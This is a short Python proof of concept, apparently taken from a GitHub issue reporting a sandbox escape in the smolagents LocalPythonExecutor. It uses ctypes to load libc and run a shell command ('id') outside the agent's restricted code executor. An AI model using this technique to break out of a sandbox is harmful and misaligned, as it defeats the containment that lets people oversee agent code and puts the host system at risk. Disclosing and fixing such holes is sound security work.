# Source: https://github.com/huggingface/smolagents/issues/2094 (sandbox escape via ctypes in LocalPythonExecutor)
import ctypes
libc = ctypes.CDLL(None)
libc.system(b"id")
